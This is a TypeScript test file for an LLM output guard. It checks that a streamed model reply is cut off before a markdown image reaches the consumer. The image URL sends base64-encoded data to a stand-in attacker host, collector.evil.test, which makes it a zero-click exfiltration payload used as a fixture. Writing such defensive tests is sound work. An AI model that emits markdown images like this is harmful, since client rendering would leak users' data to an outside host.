import { createOpenAI } from '@ai-sdk/openai';
import { streamText, wrapLanguageModel } from 'ai';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rampartMiddleware } from '../../src/adapters/ai-sdk.js';
import { RampartBlockedError, wrapOpenAI } from '../../src/adapters/openai.js';
import { createGuard, ScannerRegistry } from '../../src/index.js';
import { exfilScanner } from '../../src/scanners/exfil/index.js';
import { startFakeUpstream, type FakeUpstream } from './fake-upstream.js';
import { pieces } from './test-guard.js';

/**
 * A zero-click exfiltration attempt — a markdown image whose URL carries data — streamed in small
 * chunks and caught by the real `exfil` scanner before any of the image reaches the consumer.
 */
const guard = createGuard(
  { version: 1, output: { scanners: { exfil: { action: 'block', threshold: 0.5 } } } },
  { registry: new ScannerRegistry().register(exfilScanner) },
);
const before = 'Here is the summary you asked for, in plain words. '.repeat(4);
const text = `${before}![status](https://collector.evil.test/p?d=c2VjcmV0IHN0dWZm) done. ${'Thanks! '.repeat(20)}`;

let upstream: FakeUpstream;
beforeAll(async () => {
  upstream = await startFakeUpstream();
  upstream.reply = { text, chunks: pieces(text, 4) };
});
afterAll(() => upstream.close());

describe('streamed markdown-image exfiltration', () => {
  it('wrapOpenAI stops the stream before the image starts', async () => {
    const client = wrapOpenAI(new OpenAI({ baseURL: upstream.baseURL, apiKey: 'k', maxRetries: 0 }), guard);
    const stream = await client.chat.completions.create({ model: 'm', messages: [{ role: 'user', content: 'summarise' }], stream: true });
    let seen = '';
    const failure = await (async () => {
      for await (const chunk of stream) seen += chunk.choices[0]?.delta?.content ?? '';
    })().catch((e: unknown) => e);
    expect(failure).toBeInstanceOf(RampartBlockedError);
    expect((failure as RampartBlockedError).message).toContain('exfil/image_exfil');
    expect(text.startsWith(seen)).toBe(true);
    expect(seen).not.toContain('![');
    expect(seen.length).toBeGreaterThan(before.length - 64 - 80);
  });

  it('rampartMiddleware stops streamText before the image starts', async () => {
    const model = wrapLanguageModel({ model: createOpenAI({ baseURL: upstream.baseURL, apiKey: 'k' }).chat('m'), middleware: rampartMiddleware(guard) });
    const errors: unknown[] = [];
    const result = streamText({ model, prompt: 'summarise', maxRetries: 0, onError: ({ error }) => void errors.push(error) });
    let seen = '';
    for await (const delta of result.textStream) seen += delta;
    expect(errors[0]).toBeInstanceOf(RampartBlockedError);
    expect(text.startsWith(seen)).toBe(true);
    expect(seen).not.toContain('![');
    expect(seen.length).toBeGreaterThan(before.length - 64 - 80);
  });
});
